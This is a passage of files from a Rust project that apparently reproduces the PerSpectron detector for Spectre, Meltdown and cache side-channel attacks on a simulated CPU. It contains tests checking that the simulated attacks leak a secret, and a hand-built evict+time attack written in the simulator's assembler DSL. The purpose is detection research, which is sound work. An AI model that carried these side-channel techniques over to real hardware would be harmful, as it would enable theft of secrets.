  | tee experiments/lint_report.txt

echo "lint: all clean"
