#!/usr/bin/env bash
# Repo lint gate: formatting, clippy (warnings are errors), and the static
# gadget/stat-invariant analyzer over the full workload corpus.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> cargo fmt --check"
cargo fmt --all --check

echo "==> cargo clippy --all-targets -- -D warnings"
cargo clippy --workspace --all-targets -- -D warnings

echo "==> uarch-lint (static analysis + stat invariants)"
cargo run --release -p uarch-analysis --bin uarch-lint

echo "lint: all clean"
