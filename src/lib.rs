//! Umbrella crate for the PerSpectron reproduction workspace.
//!
//! This crate exists to host the workspace-level [examples](https://github.com/perspectron)
//! and cross-crate integration tests. The actual functionality lives in the
//! member crates, re-exported here for convenience:
//!
//! - [`uarch_stats`] — the gem5-style statistics registry
//! - [`uarch_isa`] — the simulated instruction set and assembler DSL
//! - [`sim_mem`] — caches, buses and the DRAM controller
//! - [`sim_cpu`] — the out-of-order core
//! - [`workloads`] — attack and benign programs
//! - [`mlkit`] — the from-scratch machine-learning toolkit
//! - [`perspectron`] — the detector itself

pub use mlkit;
pub use perspectron;
pub use sim_cpu;
pub use sim_mem;
pub use uarch_isa;
pub use uarch_stats;
pub use workloads;
