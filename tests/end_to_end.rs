//! Cross-crate integration: the full pipeline from workload assembly
//! through simulation, trace collection, feature selection, training and
//! held-out-attack detection.

use std::sync::OnceLock;

use perspectron::dataset::Encoding;
use perspectron::{
    paper_folds, CorpusSpec, Dataset, FeatureSelection, PerSpectron, SelectionConfig,
};
use perspectron_repro::mlkit::Classifier;
use workloads::{Class, Family};

fn corpus() -> &'static perspectron::CollectedCorpus {
    static CORPUS: OnceLock<perspectron::CollectedCorpus> = OnceLock::new();
    CORPUS.get_or_init(|| {
        CorpusSpec::paper()
            .with_insts(150_000)
            .with_interval(10_000)
            .collect()
    })
}

#[test]
fn corpus_covers_all_workloads_with_full_schema() {
    let c = corpus();
    assert!(c.traces.len() >= 25, "attacks + calibration + benign");
    assert_eq!(c.schema().len(), 1159);
    for t in &c.traces {
        assert!(
            t.trace.len() >= 10,
            "{} should produce >= 10 samples, got {}",
            t.name,
            t.trace.len()
        );
    }
}

#[test]
fn every_attack_emits_leak_or_iteration_marks_and_benign_do_not() {
    for t in &corpus().traces {
        match t.class {
            Class::Malicious => assert!(
                !t.marks.is_empty(),
                "{} should mark attack activity",
                t.name
            ),
            Class::Benign => {
                assert!(t.marks.is_empty(), "{} should not mark anything", t.name)
            }
        }
    }
}

#[test]
fn detector_separates_the_full_corpus() {
    let c = corpus();
    let det = PerSpectron::train(c, 42);
    let report = det.evaluate(c);
    assert!(
        report.confusion.accuracy() > 0.95,
        "full-corpus accuracy {}",
        report.confusion.accuracy()
    );
    assert!(
        report.confusion.false_positive_rate() < 0.05,
        "false-positive rate {}",
        report.confusion.false_positive_rate()
    );
}

#[test]
fn detector_generalizes_to_held_out_attack_families() {
    let c = corpus();
    let dataset = Dataset::from_corpus(c, Encoding::KSparse);
    let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());

    // Fold 1 holds out spectreRSB, spectreV2, cacheOut, breakingKSLR and
    // prime+probe entirely.
    let fold = &paper_folds()[0];
    let split = fold.split(c, &dataset);
    let mut train_ds = dataset.clone();
    train_ds.samples = split
        .train
        .iter()
        .map(|&i| dataset.samples[i].clone())
        .collect();
    let det = PerSpectron::train_with_selection(&train_ds, selection);

    let mut per_family: std::collections::HashMap<Family, (usize, usize)> =
        std::collections::HashMap::new();
    let mut benign_total = 0usize;
    let mut benign_fp = 0usize;
    for &i in &split.test {
        let s = &dataset.samples[i];
        let flagged = det.is_suspicious(&s.x);
        if s.y > 0 {
            let e = per_family.entry(s.family).or_default();
            e.1 += 1;
            if flagged {
                e.0 += 1;
            }
        } else {
            benign_total += 1;
            if flagged {
                benign_fp += 1;
            }
        }
    }
    for (family, (hit, total)) in &per_family {
        let rate = *hit as f64 / *total as f64;
        // Prime+Probe is the paper's hardest case: Table IV shows it
        // defeating DT-CART, KNN, logistic regression and the plain
        // 1159-feature perceptron. Held out of training entirely (plus its
        // calibration kin being the only eviction-pattern exemplar), a
        // minority of its windows are flagged; every other family is
        // detected in (nearly) all windows.
        let floor = if *family == Family::PrimeProbe {
            0.15
        } else {
            0.5
        };
        assert!(
            rate > floor,
            "held-out family {family:?} detected at only {rate:.2}"
        );
    }
    assert!(
        benign_fp as f64 / benign_total.max(1) as f64 <= 0.25,
        "held-out benign false positives {benign_fp}/{benign_total}"
    );
}

#[test]
fn perceptron_on_selected_features_beats_map_features() {
    // The paper's sharpest claim about committed-state (MAP) features is
    // that they cannot see attacks whose committed instruction mix looks
    // benign — Flush+Flush above all ("stealthy": no cache misses from the
    // attacker). Fold 3 holds flush+flush (and meltdown/breakingKSLR) out
    // of training: the microarchitectural selection must beat the MAP view
    // there. (On our synthetic corpus MAP features can ace *other* folds —
    // the attack PoCs spend their whole life attacking, so their committed
    // mixes are more telling than real traces'; see EXPERIMENTS.md.)
    let c = corpus();
    let ks = Dataset::from_corpus(c, Encoding::KSparse);
    let selection = FeatureSelection::select(&ks, &SelectionConfig::default());
    let map_idx = perspectron::map_features::map_feature_indices(&ks.schema);

    let fold = &paper_folds()[2];
    let split = fold.split(c, &ks);

    let run = |indices: &[usize]| -> f64 {
        let (x, y) = ks.project(indices);
        let xt: Vec<Vec<f64>> = split.train.iter().map(|&i| x[i].clone()).collect();
        let yt: Vec<i8> = split.train.iter().map(|&i| y[i]).collect();
        let mut p = perspectron_repro::mlkit::Perceptron::new(indices.len());
        p.fit(&xt, &yt);
        let correct = split
            .test
            .iter()
            .filter(|&&i| p.predict(&x[i]) == y[i])
            .count();
        correct as f64 / split.test.len() as f64
    };

    let acc_selected = run(&selection.selected);
    let acc_map = run(&map_idx);
    assert!(
        acc_selected > acc_map,
        "PerSpectron features ({acc_selected:.3}) must beat MAP features ({acc_map:.3}) \
         with flush+flush held out"
    );
}
