//! End-to-end attack verification: every PoC in the suite actually works
//! against the simulated machine — the secrets really leak through the
//! microarchitecture, which is what makes the detector's job meaningful.

use perspectron_repro::sim_cpu::{Core, CoreConfig};
use workloads::layout::{RESULTS, SECRET};
use workloads::meltdown::{breaking_kaslr, KASLR_MAPPED_SLOT};

fn run(name: &str, insts: u64) -> Core {
    let w = workloads::full_suite()
        .into_iter()
        .find(|w| w.name == name)
        .unwrap_or_else(|| panic!("workload {name} exists"));
    let mut core = Core::new(CoreConfig::default(), w.program);
    core.run(insts);
    core
}

fn leaked_bytes(core: &Core) -> usize {
    SECRET
        .iter()
        .enumerate()
        .filter(|(i, &b)| core.mem().memory().read(RESULTS + *i as u64, 1) as u8 == b)
        .count()
}

#[test]
fn spectre_v1_exfiltrates_the_secret() {
    let core = run("spectre-v1-classic", 2_500_000);
    assert!(leaked_bytes(&core) >= 12, "got {}", leaked_bytes(&core));
}

#[test]
fn spectre_v2_exfiltrates_the_secret() {
    let core = run("spectre-v2", 2_500_000);
    assert!(leaked_bytes(&core) >= 10, "got {}", leaked_bytes(&core));
}

#[test]
fn spectre_rsb_exfiltrates_the_secret() {
    let core = run("spectre-rsb", 2_500_000);
    assert!(leaked_bytes(&core) >= 10, "got {}", leaked_bytes(&core));
}

#[test]
fn meltdown_reads_kernel_memory() {
    let core = run("meltdown", 2_500_000);
    assert!(leaked_bytes(&core) >= 10, "got {}", leaked_bytes(&core));
    assert!(
        core.stats().commit.faults.value() > 10,
        "meltdown faults repeatedly"
    );
}

#[test]
fn breaking_kaslr_locates_the_mapped_region() {
    let mut core = Core::new(CoreConfig::default(), breaking_kaslr());
    core.run(2_500_000);
    assert_eq!(core.mem().memory().read(RESULTS + 32, 1), KASLR_MAPPED_SLOT);
}

#[test]
fn cache_attacks_recover_victim_nibbles() {
    for (name, min_correct) in [
        ("flush-reload", 20),
        ("flush-flush", 16),
        ("prime-probe", 16),
    ] {
        let core = run(name, 3_000_000);
        let correct = (0..32u64)
            .filter(|&i| {
                let b = SECRET[(i >> 1) as usize];
                let expected = if i & 1 == 0 { b >> 4 } else { b & 15 };
                core.mem().memory().read(RESULTS + i, 1) as u8 == expected
            })
            .count();
        assert!(
            correct >= min_correct,
            "{name}: only {correct}/32 nibbles recovered"
        );
    }
}

#[test]
fn attacks_leave_their_signature_footprints() {
    // SpectreV1: misspeculation.
    let v1 = run("spectre-v1-classic", 300_000);
    assert!(v1.stats().iew.branch_mispredicts.value() > 20);
    // Flush+Flush: non-speculative stalls, near-zero attacker D-cache misses
    // during probing (it never reloads).
    let ff = run("flush-flush", 300_000);
    assert!(ff.stats().commit.non_spec_stalls.value() > 100);
    // Flush+Reload: quiesce footprint from the membar-timed reloads.
    let fr = run("flush-reload", 300_000);
    assert!(fr.stats().fetch.pending_quiesce_stall_cycles.value() > 100);
    // Prime+Probe: clean-eviction storms on the L2 bus.
    let pp = run("prime-probe", 300_000);
    assert!(
        pp.mem()
            .tol2bus()
            .stats()
            .trans_dist
            .get(perspectron_repro::sim_mem::MemCmd::CleanEvict)
            > 50
    );
    // CacheOut analog: write-queue read servicing.
    let co = run("cacheout", 300_000);
    assert!(co.mem().mem_ctrl().stats().bytes_read_wr_q.value() > 0);
}
