//! Property-based verification of the out-of-order machine: random
//! programs must produce exactly the architectural state a simple
//! sequential interpreter computes — out-of-order issue, speculation,
//! store-to-load forwarding and squashing are not allowed to change
//! semantics.

use proptest::prelude::*;

use perspectron_repro::sim_cpu::{Core, CoreConfig};
use perspectron_repro::uarch_isa::{AluOp, Assembler, Inst, Program, Reg, Width};

const DATA_BASE: u64 = 0x1000;
const DATA_LEN: u64 = 256;

/// A tiny sequential reference interpreter for the ISA fragment the
/// generator emits (ALU ops, clamped loads/stores, forward branches).
fn reference_run(program: &Program) -> ([u64; 32], Vec<u8>) {
    let mut regs = [0u64; 32];
    let mut mem = vec![0u8; DATA_LEN as usize];
    for seg in program.segments() {
        let off = (seg.base - DATA_BASE) as usize;
        mem[off..off + seg.data.len()].copy_from_slice(&seg.data);
    }
    let mut pc = 0usize;
    let mut steps = 0;
    while let Some(inst) = program.fetch(pc) {
        steps += 1;
        assert!(steps < 100_000, "reference interpreter runaway");
        pc = match inst {
            Inst::Li { rd, imm } => {
                regs[rd.index()] = imm as u64;
                pc + 1
            }
            Inst::Alu { op, rd, ra, rb } => {
                regs[rd.index()] = ref_alu(op, regs[ra.index()], regs[rb.index()]);
                pc + 1
            }
            Inst::AluI { op, rd, ra, imm } => {
                regs[rd.index()] = ref_alu(op, regs[ra.index()], imm as u64);
                pc + 1
            }
            Inst::Load {
                rd,
                base,
                offset,
                width,
                ..
            } => {
                let addr = regs[base.index()].wrapping_add(offset as u64);
                assert!(
                    addr >= DATA_BASE && addr + width.bytes() <= DATA_BASE + DATA_LEN,
                    "generated load out of range: {addr:#x}"
                );
                let mut v = 0u64;
                for i in 0..width.bytes() {
                    v |= (mem[(addr - DATA_BASE + i) as usize] as u64) << (8 * i);
                }
                regs[rd.index()] = v;
                pc + 1
            }
            Inst::Store {
                rs,
                base,
                offset,
                width,
                ..
            } => {
                let addr = regs[base.index()].wrapping_add(offset as u64);
                assert!(
                    addr >= DATA_BASE && addr + width.bytes() <= DATA_BASE + DATA_LEN,
                    "generated store out of range: {addr:#x}"
                );
                for i in 0..width.bytes() {
                    mem[(addr - DATA_BASE + i) as usize] = (regs[rs.index()] >> (8 * i)) as u8;
                }
                pc + 1
            }
            Inst::Branch {
                cond,
                ra,
                rb,
                target,
            } => {
                if cond.eval(regs[ra.index()], regs[rb.index()]) {
                    target
                } else {
                    pc + 1
                }
            }
            Inst::Halt => break,
            Inst::Nop => pc + 1,
            other => panic!("generator does not emit {other:?}"),
        };
    }
    (regs, mem)
}

fn ref_alu(op: AluOp, a: u64, b: u64) -> u64 {
    match op {
        AluOp::Add => a.wrapping_add(b),
        AluOp::Sub => a.wrapping_sub(b),
        AluOp::Mul => a.wrapping_mul(b),
        AluOp::And => a & b,
        AluOp::Or => a | b,
        AluOp::Xor => a ^ b,
        AluOp::Shl => a.wrapping_shl(b as u32 & 63),
        AluOp::Shr => a.wrapping_shr(b as u32 & 63),
        AluOp::Slt => ((a as i64) < (b as i64)) as u64,
        AluOp::Sltu => (a < b) as u64,
        AluOp::Rem => {
            if b == 0 {
                a
            } else {
                ((a as i64).wrapping_rem(b as i64)) as u64
            }
        }
        AluOp::Div | AluOp::Sar => unreachable!("generator restricts ops"),
    }
}

#[derive(Debug, Clone)]
enum GenOp {
    Li(u8, i64),
    Alu(u8, u8, u8, u8),
    AluI(u8, u8, u8, i64),
    Load(u8, u8, u8),
    Store(u8, u8, u8),
    /// Skip the next instruction when `ra >= rb` (unsigned).
    SkipIf(u8, u8),
}

fn op_strategy() -> impl Strategy<Value = GenOp> {
    let reg = 0u8..16;
    let alu_op = 0u8..10;
    prop_oneof![
        (reg.clone(), -1000i64..1000).prop_map(|(r, v)| GenOp::Li(r, v)),
        (alu_op.clone(), reg.clone(), reg.clone(), reg.clone())
            .prop_map(|(o, d, a, b)| GenOp::Alu(o, d, a, b)),
        (alu_op, reg.clone(), reg.clone(), -64i64..64)
            .prop_map(|(o, d, a, v)| GenOp::AluI(o, d, a, v)),
        (reg.clone(), reg.clone(), 0u8..3).prop_map(|(d, a, w)| GenOp::Load(d, a, w)),
        (reg.clone(), reg.clone(), 0u8..3).prop_map(|(s, a, w)| GenOp::Store(s, a, w)),
        (reg.clone(), reg).prop_map(|(a, b)| GenOp::SkipIf(a, b)),
    ]
}

fn alu_of(i: u8) -> AluOp {
    [
        AluOp::Add,
        AluOp::Sub,
        AluOp::Mul,
        AluOp::And,
        AluOp::Or,
        AluOp::Xor,
        AluOp::Shl,
        AluOp::Shr,
        AluOp::Slt,
        AluOp::Sltu,
    ][i as usize]
}

fn width_of(i: u8) -> Width {
    [Width::Byte, Width::Word, Width::Double][i as usize]
}

/// Generated registers live in r8..r23; r1/r2 are address scratch.
fn reg_of(i: u8) -> Reg {
    Reg::from_index(i as usize + 8).expect("r8..r23")
}

/// Emits `R1 = DATA_BASE + ((base & 0xff) % (DATA_LEN - width))` — an
/// always-in-range address computed with instructions both machines
/// interpret identically (the masked value is non-negative, so signed Rem
/// equals unsigned).
fn emit_clamped_addr(a: &mut Assembler, base: Reg, width: Width) {
    a.alui(AluOp::And, Reg::R2, base, 0xff);
    a.alui(
        AluOp::Rem,
        Reg::R1,
        Reg::R2,
        (DATA_LEN - width.bytes()) as i64,
    );
    a.alui(AluOp::Add, Reg::R1, Reg::R1, DATA_BASE as i64);
}

fn build_program(ops: &[GenOp]) -> Program {
    let mut a = Assembler::new("prop");
    a.data(DATA_BASE, vec![0xa5u8; DATA_LEN as usize]);
    let mut skip: Option<(usize, perspectron_repro::uarch_isa::Label)> = None;
    for op in ops {
        // Close an expired skip window (one generated op long).
        if let Some((0, label)) = skip {
            a.bind(label);
            skip = None;
        }
        if let Some((n, label)) = skip {
            skip = Some((n - 1, label));
            let _ = label;
        }
        match *op {
            GenOp::Li(r, v) => a.li(reg_of(r), v),
            GenOp::Alu(o, d, x, y) => a.alu(alu_of(o), reg_of(d), reg_of(x), reg_of(y)),
            GenOp::AluI(o, d, x, v) => a.alui(alu_of(o), reg_of(d), reg_of(x), v),
            GenOp::Load(d, base, w) => {
                let width = width_of(w);
                emit_clamped_addr(&mut a, reg_of(base), width);
                a.emit(Inst::Load {
                    rd: reg_of(d),
                    base: Reg::R1,
                    offset: 0,
                    width,
                    fp: false,
                });
            }
            GenOp::Store(s, base, w) => {
                let width = width_of(w);
                emit_clamped_addr(&mut a, reg_of(base), width);
                a.emit(Inst::Store {
                    rs: reg_of(s),
                    base: Reg::R1,
                    offset: 0,
                    width,
                    fp: false,
                });
            }
            GenOp::SkipIf(x, y) => {
                if skip.is_none() {
                    let label = a.label();
                    a.bgeu(reg_of(x), reg_of(y), label);
                    skip = Some((1, label));
                }
            }
        }
    }
    if let Some((_, label)) = skip {
        a.bind(label);
    }
    a.halt();
    a.finish().expect("assembles")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    #[test]
    fn out_of_order_execution_matches_sequential_semantics(
        ops in proptest::collection::vec(op_strategy(), 1..50)
    ) {
        let program = build_program(&ops);
        let (expect_regs, expect_mem) = reference_run(&program);

        let mut core = Core::new(CoreConfig::default(), program);
        let summary = core.run(200_000);
        prop_assert!(summary.halted, "random program must halt");

        for (i, &expect) in expect_regs.iter().enumerate().take(24).skip(8) {
            let r = Reg::from_index(i).expect("valid");
            prop_assert_eq!(core.reg(r), expect, "register r{} differs", i);
        }
        for (off, &b) in expect_mem.iter().enumerate() {
            prop_assert_eq!(
                core.mem().memory().read(DATA_BASE + off as u64, 1) as u8,
                b,
                "memory byte {} differs",
                off
            );
        }
    }
}
