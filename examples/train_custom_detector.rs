//! Train a custom detector: the paper's "software defined" weight-update
//! story (§IV-G). A new attack variant appears; we add it to the training
//! corpus, retrain, and ship the new weights into the same hardware.
//!
//! ```text
//! cargo run --release --example train_custom_detector
//! ```

use perspectron::trace::collect_trace;
use perspectron::{CorpusSpec, PerSpectron};
use uarch_isa::{Assembler, MarkKind, Reg};
use workloads::layout::{PRIME_ARENA, USER_SECRET, VICTIM_BUF};
use workloads::{Class, Family, Workload};

/// A hand-rolled cache attack that is in none of the standard suites: an
/// "evict+time" loop that never flushes and never reloads the victim line —
/// it times its *own* eviction sweep.
fn evict_time() -> Workload {
    let mut a = Assembler::new("evict-time");
    a.data(VICTIM_BUF, vec![3u8; 64]);
    a.data(USER_SECRET, b"ET".to_vec());
    let victim = a.label();
    let outer = a.label();
    a.jmp(outer);
    a.bind(victim);
    a.li(Reg::R5, VICTIM_BUF as i64);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.ret();
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    // Evict by sweeping 16 conflicting lines.
    a.li(Reg::R10, 0);
    let sweep = a.label();
    a.bind(sweep);
    a.li(Reg::R5, (128 * 64) as i64);
    a.mul(Reg::R5, Reg::R5, Reg::R10);
    a.addi(Reg::R5, Reg::R5, PRIME_ARENA as i64);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.addi(Reg::R10, Reg::R10, 1);
    a.li(Reg::R6, 16);
    a.blt(Reg::R10, Reg::R6, sweep);
    a.call(victim);
    a.mark(MarkKind::PhaseProbe);
    // Time the eviction sweep itself.
    a.rdcycle(Reg::R11);
    a.li(Reg::R10, 0);
    let timed = a.label();
    a.bind(timed);
    a.li(Reg::R5, (128 * 64) as i64);
    a.mul(Reg::R5, Reg::R5, Reg::R10);
    a.addi(Reg::R5, Reg::R5, PRIME_ARENA as i64);
    a.loadb(Reg::R6, Reg::R5, 0);
    a.addi(Reg::R10, Reg::R10, 1);
    a.li(Reg::R6, 16);
    a.blt(Reg::R10, Reg::R6, timed);
    a.rdcycle(Reg::R12);
    a.mark(MarkKind::IterationEnd);
    a.jmp(outer);
    Workload {
        name: "evict-time".into(),
        class: Class::Malicious,
        family: Family::PrimeProbe,
        program: a.finish().expect("assembles"),
    }
}

fn main() {
    let novel = evict_time();

    // Baseline detector: trained without the new attack.
    println!("training the stock detector...");
    let stock_corpus = CorpusSpec::quick().collect();
    let stock = PerSpectron::train(&stock_corpus, 42);
    let trace = collect_trace(&novel, 200_000, 10_000);
    let stock_hits = stock
        .confidence_series(&trace)
        .iter()
        .filter(|&&c| c >= stock.threshold)
        .count();
    println!(
        "  stock detector flags evict-time in {stock_hits}/{} samples (zero-day behavior)",
        trace.trace.len()
    );

    // Vendor update: add the new attack to the corpus and retrain — same
    // hardware, new weights.
    println!("retraining with the new attack in the corpus...");
    let mut spec = CorpusSpec::quick();
    spec.workloads.push(novel);
    let updated_corpus = spec.collect();
    let updated = PerSpectron::train(&updated_corpus, 42);
    let updated_hits = updated
        .confidence_series(&trace)
        .iter()
        .filter(|&&c| c >= updated.threshold)
        .count();
    println!(
        "  updated detector flags evict-time in {updated_hits}/{} samples",
        trace.trace.len()
    );
    assert!(updated_hits >= stock_hits);

    let report = updated.evaluate(&updated_corpus);
    println!(
        "  corpus-wide accuracy after the update: {:.4} (fp workloads: {:?})",
        report.confusion.accuracy(),
        report.false_positive_workloads
    );
    println!(
        "\nThe weights are small ({} bytes at 8-bit quantization) — cheap to ship as a\n\
         vendor patch, as §IV-G proposes.",
        updated.selection().selected.len()
    );
}
