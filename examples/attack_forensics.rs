//! Attack forensics: run SpectreV1 end to end on the simulated machine,
//! watch it actually leak the secret, and inspect the microarchitectural
//! footprint it leaves behind.
//!
//! ```text
//! cargo run --release --example attack_forensics
//! ```

use sim_cpu::{Core, CoreConfig};
use uarch_isa::MarkKind;
use workloads::layout::{RESULTS, SECRET};
use workloads::spectre::{spectre_v1, SpectreV1Params};

fn main() {
    let program = spectre_v1(SpectreV1Params::default());
    let mut core = Core::new(CoreConfig::default(), program);
    println!("running spectre-v1-classic for 400K instructions...");
    let summary = core.run(400_000);
    println!(
        "  {} instructions in {} cycles (IPC {:.2})\n",
        summary.committed,
        summary.cycles,
        summary.committed as f64 / summary.cycles as f64
    );

    // Did the attack actually work? Read the recovered bytes out of the
    // attacker's results buffer.
    let recovered: Vec<u8> = (0..SECRET.len() as u64)
        .map(|i| core.mem().memory().read(RESULTS + i, 1) as u8)
        .collect();
    println!("secret    : {}", String::from_utf8_lossy(SECRET));
    println!("recovered : {}", String::from_utf8_lossy(&recovered));
    let correct = recovered.iter().zip(SECRET).filter(|(a, b)| a == b).count();
    println!("  {} / {} bytes leaked correctly\n", correct, SECRET.len());

    // Phase timeline from the simulator marks.
    let leaks = core
        .marks()
        .iter()
        .filter(|m| m.kind == MarkKind::LeakByte)
        .count();
    let first_leak = core
        .marks()
        .iter()
        .find(|m| m.kind == MarkKind::LeakByte)
        .map(|m| m.at_inst);
    println!(
        "leak events: {leaks} (first at {} committed instructions)",
        first_leak.map_or("-".into(), |v| v.to_string())
    );

    // The microarchitectural footprint the detector feeds on.
    let s = core.stats();
    println!("\nfootprint (totals over the run):");
    for (name, v) in [
        ("iew.branchMispredicts", s.iew.branch_mispredicts.value()),
        ("commit.SquashedInsts", s.commit.squashed_insts.value()),
        ("lsq.squashedLoads", s.iew.lsq.squashed_loads.value()),
        ("commit.NonSpecStalls", s.commit.non_spec_stalls.value()),
        (
            "rename.serializeStallCycles",
            s.rename.serialize_stall_cycles.value(),
        ),
        ("rename.UndoneMaps", s.rename.undone_maps.value()),
        ("fetch.IcacheSquashes", s.fetch.icache_squashes.value()),
    ] {
        println!("  {name:<30} {v}");
    }
    let m = core.mem();
    println!(
        "  {:<30} {}",
        "dcache.flush_invalidations",
        m.l1d().stats().agg.flush_invalidations.value()
    );
    println!(
        "  {:<30} {}",
        "mem_ctrls.bytesReadWrQ",
        m.mem_ctrl().stats().bytes_read_wr_q.value()
    );
}
