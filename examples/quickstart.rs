//! Quickstart: collect a corpus, train PerSpectron, evaluate it, and peek
//! at the learned weights.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use perspectron::{CorpusSpec, PerSpectron};

fn main() {
    // 1. Run every attack and benign workload on the simulated machine,
    //    sampling all 1159 statistics every 10K committed instructions.
    println!("collecting corpus (this simulates ~25 workloads)...");
    let corpus = CorpusSpec::quick().collect();
    println!(
        "  {} workloads, {} samples, {} statistics each",
        corpus.traces.len(),
        corpus.total_samples(),
        corpus.schema().len()
    );

    // 2. Train: k-sparse encoding, correlation grouping, replicated
    //    feature selection, perceptron learning.
    println!("training PerSpectron...");
    let detector = PerSpectron::train(&corpus, 42);
    println!(
        "  selected {} features across the pipeline",
        detector.selection().selected.len()
    );

    // 3. Evaluate on the corpus.
    let report = detector.evaluate(&corpus);
    println!(
        "  accuracy {:.4}, recall {:.4}, false-positive rate {:.4}",
        report.confusion.accuracy(),
        report.confusion.recall(),
        report.confusion.false_positive_rate()
    );
    if !report.false_positive_workloads.is_empty() {
        println!(
            "  false positives from: {:?}",
            report.false_positive_workloads
        );
    }

    // 4. Interpretability: the heaviest suspicious-leaning features.
    println!("\nmost suspicious-leaning features:");
    let mut all: Vec<(String, f64)> = detector
        .explain()
        .into_iter()
        .flat_map(|(_, ws)| ws)
        .collect();
    all.sort_by(|a, b| b.1.partial_cmp(&a.1).expect("no NaN weights"));
    for (name, w) in all.iter().take(8) {
        println!("  {w:>7.3}  {name}");
    }

    // 5. Hardware budget.
    let cost = detector.hardware_cost();
    println!(
        "\nhardware: {} cycles per inference, {} bits of storage, {} multipliers",
        cost.inference_cycles, cost.storage_bits, cost.multipliers
    );
}
