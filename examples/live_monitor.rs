//! Live monitor: deploy a trained detector as the paper's first line of
//! defense — watch an unseen workload sample by sample and raise the alarm
//! (with a confidence) the moment its footprint turns suspicious.
//!
//! ```text
//! cargo run --release --example live_monitor
//! ```

use perspectron::trace::collect_trace;
use perspectron::{CorpusSpec, PerSpectron};
use workloads::spectre::{spectre_v1, SpectreV1Params, V1Variant};
use workloads::{Class, Family, Workload};

fn main() {
    println!("training the detector on the standard corpus...");
    let corpus = CorpusSpec::quick().collect();
    let detector = PerSpectron::train(&corpus, 42);

    // The monitored "process": a polymorphic Spectre variant the detector
    // has never seen, sandwiched between benign phases — the realistic
    // deployment story.
    let suspect = Workload {
        name: "unknown-process".into(),
        class: Class::Malicious,
        family: Family::SpectreV1,
        program: spectre_v1(SpectreV1Params {
            variant: V1Variant::MemcmpLeak,
            delay_iters: 4000, // hides between stretches of benign work
        }),
    };
    println!(
        "monitoring '{}' (never seen in training)...\n",
        suspect.name
    );

    let trace = collect_trace(&suspect, 300_000, 10_000);
    let series = detector.confidence_series(&trace);
    let mut alarmed = false;
    for (i, c) in series.iter().enumerate() {
        let at = (i + 1) * 10_000;
        let status = if *c >= detector.threshold {
            "SUSPICIOUS"
        } else {
            "ok"
        };
        println!("  [{at:>7} insts] confidence {c:>6.3}  {status}");
        if *c >= detector.threshold && !alarmed {
            alarmed = true;
            println!("  >> ALARM raised: notifying the OS to isolate / monitor the process");
            println!(
                "  >> candidate mitigations: randomize cache indexing, inject branch-\n\
                 \x20\x20   predictor noise, fence unsafe loads (paper §IV-G)"
            );
        }
    }
    if !alarmed {
        println!("  no alarm raised (unexpected for this workload)");
    }
}
