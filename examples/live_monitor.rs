//! Live monitor: deploy a trained detector as the paper's first line of
//! defense — an online [`perspectron::StreamingDetector`] plugged directly
//! into the running core's sample stream, scoring every 10K-instruction
//! window the moment it closes and raising the alarm (with a confidence)
//! as soon as the footprint turns suspicious. No trace is ever
//! materialized: the monitor sees each interval once, exactly as the
//! hardware perceptron would.
//!
//! ```text
//! cargo run --release --example live_monitor
//! ```

use perspectron::trace::workload_seed;
use perspectron::{CorpusSpec, FaultPlan, FaultSpec, PerSpectron, ResiliencePolicy};
use sim_cpu::{Core, CoreConfig};
use workloads::spectre::{spectre_v1, SpectreV1Params, V1Variant};
use workloads::{Class, Family, Workload};

fn main() {
    // Supervised collection: a watchdog cycle budget per workload, panics
    // quarantined, one retry with a fresh noise seed. On a healthy suite
    // the quarantine stays empty — but a deployment never bets on that.
    println!("training the detector on the standard corpus (supervised collection)...");
    let resilient = CorpusSpec::quick().try_collect_resilient(&ResiliencePolicy {
        cycle_budget: Some(100_000_000),
        ..ResiliencePolicy::default()
    });
    println!("collection: {}", resilient.quarantine_summary());
    for f in &resilient.failures {
        println!("  quarantined: {f}");
    }
    let corpus = resilient.corpus;
    let detector = PerSpectron::train(&corpus, 42);

    // The monitored "process": a polymorphic Spectre variant the detector
    // has never seen, sandwiched between benign phases — the realistic
    // deployment story.
    let suspect = Workload {
        name: "unknown-process".into(),
        class: Class::Malicious,
        family: Family::SpectreV1,
        program: spectre_v1(SpectreV1Params {
            variant: V1Variant::MemcmpLeak,
            delay_iters: 4000, // hides between stretches of benign work
        }),
    };
    println!(
        "monitoring '{}' (never seen in training)...\n",
        suspect.name
    );

    // The detector rides the sample stream: each interval is encoded and
    // scored online, no trace retained. Driving the core directly (instead
    // of `stream_trace`) also surfaces the run summary with its wall-clock
    // throughput.
    let mut monitor = detector.streaming();
    let mut core = Core::new(CoreConfig::default(), suspect.program.clone());
    core.set_noise_seed(workload_seed(&suspect.name));
    let summary = core
        .run_with_sink(300_000, 10_000, &mut monitor)
        .expect("positive interval");
    println!(
        "simulated {} insts in {} cycles ({:.0} insts/s, {:.0} sim cycles/s wall-clock)\n",
        summary.committed, summary.cycles, summary.insts_per_sec, summary.sim_cycles_per_sec
    );

    let mut alarmed = false;
    for v in monitor.verdicts() {
        let status = if v.suspicious { "SUSPICIOUS" } else { "ok" };
        let health = match &v.degraded {
            None => String::new(),
            Some(d) => format!(
                "  [degraded: {} dead sensor bank(s), {} value(s) sanitized]",
                d.missing_components.len(),
                d.sanitized_values
            ),
        };
        println!(
            "  [{:>7} insts] confidence {:>6.3}  {status}{health}",
            v.at_inst, v.confidence
        );
        if v.suspicious && !alarmed {
            alarmed = true;
            println!("  >> ALARM raised: notifying the OS to isolate / monitor the process");
            println!(
                "  >> candidate mitigations: randomize cache indexing, inject branch-\n\
                 \x20\x20   predictor noise, fence unsafe loads (paper §IV-G)"
            );
        }
    }
    if let Some(v) = monitor.first_alarm() {
        println!(
            "\nfirst alarm at {} committed instructions (confidence {:.3})",
            v.at_inst, v.confidence
        );
    } else {
        println!("  no alarm raised (unexpected for this workload)");
    }

    // Second pass, this time through a fault injector: 15% of the sensor
    // banks drop out per interval and 2% of values arrive corrupted. The
    // monitor sanitizes what it can, flags each degraded window, and must
    // still catch the attack.
    println!("\nre-monitoring with injected sensor faults (15% dropout, 2% corruption)...");
    let plan = FaultPlan::new(
        FaultSpec {
            seed: 0xFAB,
            component_dropout: 0.15,
            row_drop: 0.0,
            corruption: 0.02,
            interval_jitter: 0,
        },
        detector.schema(),
    );
    let mut faulted = plan.sink_for(&suspect.name, detector.streaming());
